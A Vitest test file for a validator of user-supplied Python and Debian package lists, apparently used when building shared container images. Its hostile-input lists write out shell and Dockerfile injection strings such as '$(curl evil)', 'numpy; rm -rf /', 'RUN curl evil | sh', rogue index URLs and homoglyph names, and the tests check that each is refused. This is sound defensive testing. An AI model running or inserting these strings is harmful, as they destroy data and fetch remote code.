import { describe, expect, it } from 'vitest';
import { PACKAGE_LIMITS, debianPackageName, packageName, parsePackageLines, parsePackageSpec, validatePackageRequest } from '../../src/images/package-spec.js';

describe('parsePackageLines (python)', () => {
  it.each([
    ['einops', 'einops'],
    ['rich==13.7.1', 'rich==13.7.1'],
    ['transformers[torch]>=4.40', 'transformers[torch]>=4.40'],
    ['rich >= 13', 'rich>=13'],
    ['  numpy  ', 'numpy'],
    ['torch>=2.0.0, <2.2.0', 'torch>=2.0.0,<2.2.0'],
    ['pkg [ a , b ] ~= 1.4', 'pkg[a,b]~=1.4'],
    ['Django===4.2.1', 'Django===4.2.1'],
    ['scikit_learn!=1.3.*', 'scikit_learn!=1.3.*'],
    ['zope.interface', 'zope.interface'],
    ['torch==2.3.0+cu121', 'torch==2.3.0+cu121'],
    ['pkg==1!2.0', 'pkg==1!2.0'],
    ['a', 'a'],
    ['numpy\t==\t1.26', 'numpy==1.26'],
  ])('accepts %j as %j', (input, expected) => {
    expect(parsePackageLines('python', input)).toEqual({ ok: true, packages: [expected] });
  });

  it('ignores blank lines, # comments and trailing comments; accepts CRLF line ends', () => {
    const text = '# my packages\n\neinops\r\nrich==13.7.1   # pinned for the demo\n   \n# wandb\n';
    expect(parsePackageLines('python', text)).toEqual({ ok: true, packages: ['einops', 'rich==13.7.1'] });
  });

  it('an empty field is fine (nothing to add)', () => {
    expect(parsePackageLines('python', '')).toEqual({ ok: true, packages: [] });
    expect(parsePackageLines('python', '\n  \n# only a comment')).toEqual({ ok: true, packages: [] });
  });

  it('reports every bad line with its 1-based number', () => {
    const result = parsePackageLines('python', 'einops\nfoo; rm -rf /\nrich\n$(id)');
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors.map((e) => e.line)).toEqual([2, 4]);
    expect(result.errors[0]?.text).toBe('foo; rm -rf /');
  });

  it('refuses duplicate names (PEP 503 normalised), pointing at the first line', () => {
    const result = parsePackageLines('python', 'Scikit_Learn\nnumpy\nscikit-learn==1.5');
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]?.line).toBe(3);
    expect(result.errors[0]?.reason).toContain('line 1');
  });

  it('allows exactly the line limit and refuses one more', () => {
    const names = Array.from({ length: PACKAGE_LIMITS.maxPackagesPerField }, (_, i) => `pkg${i}`);
    expect(parsePackageLines('python', names.join('\n')).ok).toBe(true);
    const result = parsePackageLines('python', [...names, 'onemore'].join('\n'));
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0]?.reason).toContain(`at most ${PACKAGE_LIMITS.maxPackagesPerField}`);
  });

  it('allows 100 characters on a line and refuses 101', () => {
    expect(parsePackageLines('python', 'a'.repeat(100)).ok).toBe(true);
    expect(parsePackageLines('python', 'a'.repeat(101)).ok).toBe(false);
  });
});

// Every entry must be refused. Many are shell or Dockerfile injection attempts; the rest are
// things pip would accept but DS01 does not want in a shared image (URLs, options, markers).
const HOSTILE_PYTHON: string[] = [
  '$(curl evil)',
  '`id`',
  'numpy; rm -rf /',
  'numpy && echo',
  'numpy || true',
  'numpy | sh',
  'numpy & sleep 1',
  'numpy > /etc/x',
  'numpy\\\nRUN evil',
  'numpy\\',
  'numpy\r\nRUN evil',
  'numpy\nRUN curl evil | sh',
  'numpy\rRUN evil',
  'RUN evil',
  '--index-url http://evil',
  '-i http://evil',
  '--extra-index-url=http://evil',
  '-e git+https://x/y.git',
  '-r /etc/passwd',
  'git+https://github.com/x/y.git',
  'pkg @ https://evil/x.whl',
  'pkg@https://evil/x.whl',
  'https://evil/x.whl',
  'requests; python_version<"3"',
  'requests ; python_version < "3"',
  'nսmpy', // Armenian small letter seh
  'numpу', // Cyrillic small letter u
  'numрy', // Cyrillic small letter er
  'num\u0000py',
  'numpy\u0000',
  'num\u200bpy', // zero-width space
  'numpy\u00a0', // no-break space
  '../../etc/passwd',
  './local-package',
  '/abs/path.whl',
  'C:\\evil',
  '"numpy"',
  "'numpy'",
  'num"py',
  "numpy'",
  'numpy==1.0"; touch /x; "',
  '${HOME}',
  '$HOME',
  'numpy==$(id)',
  'numpy==`id`',
  'numpy (>=1.0)',
  'numpy==1.0 rich',
  'num py',
  '-numpy',
  '.numpy',
  'numpy-',
  'numpy[a;b]',
  'numpy[]',
  'numpy[a b]',
  'numpy==',
  'numpy>=1,',
  'numpy=1.0',
  'numpy==1.0#frag',
  'numpy#egg=x',
  'a'.repeat(101),
  `numpy==${'1'.repeat(95)}`,
  Array.from({ length: 51 }, (_, i) => `pkg${i}`).join('\n'),
  '\n'.repeat(PACKAGE_LIMITS.maxRawLines) + 'numpy',
  'x'.repeat(PACKAGE_LIMITS.maxFieldLength + 1),
  'numpy\nnumpy',
];

const HOSTILE_SYSTEM: string[] = [
  'ffmpeg; rm -rf /',
  'ffmpeg && curl evil',
  'ffmpeg | sh',
  '$(id)',
  '`id`',
  '-o APT::x',
  '-oAPT::Get::AllowUnauthenticated=true',
  '--allow-unauthenticated',
  '-y',
  'ffmpeg\\\nRUN evil',
  'ffmpeg\r\nRUN evil',
  'ffmpeg\u0000',
  'ffmрeg', // Cyrillic er
  'FFmpeg',
  'ffmpeg ffprobe',
  'f',
  '+ffmpeg',
  '.ffmpeg',
  'ffmpeg=-o',
  'ffmpeg=',
  'ffmpeg=abc',
  'ffmpeg=1.0;id',
  'ffmpeg/unstable',
  'libc6:i386',
  'ffmpeg*',
  'ffmpeg?',
  '../../etc/passwd',
  '/tmp/evil.deb',
  './evil.deb',
  'http://evil/x.deb',
  '"ffmpeg"',
  'ffmpeg\nffmpeg',
  'a'.repeat(101),
];

describe('hostile input is refused', () => {
  it.each(HOSTILE_PYTHON.map((s) => [JSON.stringify(s).slice(0, 60), s]))('python %s', (_label, text) => {
    const result = parsePackageLines('python', text);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors.length).toBeGreaterThan(0);
  });

  it.each(HOSTILE_SYSTEM.map((s) => [JSON.stringify(s).slice(0, 60), s]))('system %s', (_label, text) => {
    expect(parsePackageLines('system', text).ok).toBe(false);
  });

  it('no accepted python spec contains a character the shell or Dockerfile treats specially', () => {
    for (const text of ['rich >= 13', 'pkg [ a , b ] ~= 1.4', 'torch==2.3.0+cu121']) {
      const r = parsePackageSpec('python', text);
      expect(r.ok).toBe(true);
      if (r.ok) expect(r.spec).toMatch(/^[A-Za-z0-9._\-[\],=!<>~*+]+$/);
    }
  });

  it('explains the homoglyph with its code point', () => {
    const r = parsePackageSpec('python', 'numpу');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason).toContain('U+0443');
  });

  it('names the offending character', () => {
    const r = parsePackageSpec('python', '$(curl evil)');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason).toContain('`$`');
  });
});

describe('parsePackageLines (system)', () => {
  it.each([
    ['ffmpeg', 'ffmpeg'],
    ['libsndfile1', 'libsndfile1'],
    ['g++', 'g++'],
    ['libstdc++6', 'libstdc++6'],
    ['python3.11-dev', 'python3.11-dev'],
    ['  git-lfs ', 'git-lfs'],
    ['ffmpeg=7:6.1.1-3ubuntu5', 'ffmpeg=7:6.1.1-3ubuntu5'],
    ['curl = 8.5.0-2ubuntu10~22.04', 'curl=8.5.0-2ubuntu10~22.04'],
  ])('accepts %j as %j', (input, expected) => {
    expect(parsePackageLines('system', input)).toEqual({ ok: true, packages: [expected] });
  });

  it('tells the user Debian names are lowercase', () => {
    const r = parsePackageSpec('system', 'FFmpeg');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason).toContain('lowercase');
  });

  it('refuses the same package twice even with different versions', () => {
    expect(parsePackageLines('system', 'ffmpeg\nffmpeg=7:6.1').ok).toBe(false);
  });
});

describe('packageName / debianPackageName', () => {
  it.each([
    ['Foo_Bar.baz[x]>=1', 'foo-bar-baz'],
    ['scikit_learn', 'scikit-learn'],
    ['Scikit-Learn==1.5', 'scikit-learn'],
    ['zope..interface', 'zope-interface'],
    ['rich', 'rich'],
    ['  Rich >= 13', 'rich'],
  ])('packageName(%j) = %j', (spec, name) => {
    expect(packageName(spec)).toBe(name);
  });

  it('debianPackageName strips versions, arch and release suffixes', () => {
    expect(debianPackageName('ffmpeg=7:6.1')).toBe('ffmpeg');
    expect(debianPackageName('libc6:i386')).toBe('libc6');
    expect(debianPackageName('git/bookworm-backports')).toBe('git');
    expect(debianPackageName('g++')).toBe('g++');
  });
});

describe('validatePackageRequest', () => {
  it('returns both normalised lists', () => {
    expect(validatePackageRequest({ python: 'einops\nrich >= 13', system: 'ffmpeg' })).toEqual({
      ok: true,
      python: ['einops', 'rich>=13'],
      system: ['ffmpeg'],
    });
  });

  it('gives one kind message per field, naming line numbers, keyed by block id', () => {
    const result = validatePackageRequest({ python: 'einops\nfoo; rm -rf /', system: '-o APT::x' });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors.python).toBe(
      'Line 2 (`foo; rm -rf /`): environment markers and anything after `;` are not allowed. Only a package name with an optional version is allowed here — no spaces, `;`, URLs or pip options. For example `rich==13.7.1` or `transformers[torch]>=4.40`.',
    );
    expect(result.errors.system).toMatch(/^Line 1 \(`-o APT::x`\): apt options/);
    expect(Object.keys(result.errors).sort()).toEqual(['python', 'system']);
  });

  it('only reports the field that has problems', () => {
    const result = validatePackageRequest({ python: 'einops', system: 'ffmpeg; id' });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(Object.keys(result.errors)).toEqual(['system']);
  });

  it('lists at most three problems and counts the rest', () => {
    const result = validatePackageRequest({ python: ['$a', '$b', '$c', '$d', '$e'].join('\n') });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    const msg = result.errors.python ?? '';
    expect(msg.split('\n')).toHaveLength(4);
    expect(msg).toContain('2 more lines');
  });

  it('makes invisible characters visible and shortens long lines when echoing them', () => {
    const result = validatePackageRequest({ python: `num\u0000py\n${'x'.repeat(120)}` });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors.python).toContain('num\\u0000py');
    expect(result.errors.python).not.toContain('\u0000');
    expect(result.errors.python).toContain('…');
  });

  it('asks for at least one package when both fields are empty', () => {
    const result = validatePackageRequest({ python: '  \n', system: null });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors.python).toMatch(/at least one package/);
  });
});
